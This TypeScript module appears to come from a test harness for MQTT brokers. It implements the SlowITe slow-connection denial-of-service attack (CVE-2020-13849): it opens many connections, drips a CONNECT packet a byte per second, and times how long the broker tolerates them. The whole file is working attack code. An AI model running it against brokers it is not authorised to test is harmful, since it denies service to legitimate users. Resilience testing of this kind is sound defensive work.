import type { Target } from './attacks.js'
import { RawClient } from './raw-client.js'
import * as wire from './wire.js'

/**
 * As many connections as there may be, each of which says its CONNECT a byte a second (SlowITe, CVE-2020-13849).
 * Returns how long the last one was kept, in milliseconds; one that was not let in counts for nothing.
 */
export async function slowConnections({ port }: Target, count: number): Promise<number> {
  const begin = performance.now()
  const clients = await Promise.all(
    Array.from({ length: count }, () => RawClient.open(port).catch(() => undefined)),
  )
  const bytes = wire.connectPacket({ clientId: 'slow' })
  let sent = 0
  const drip = setInterval(() => {
    for (const client of clients) void client?.send(bytes.subarray(sent, sent + 1))
    sent++
  }, 1000)
  await Promise.all(clients.map((client) => client?.isSentAway(15_000)))
  clearInterval(drip)
  for (const client of clients) client?.close()
  return performance.now() - begin
}
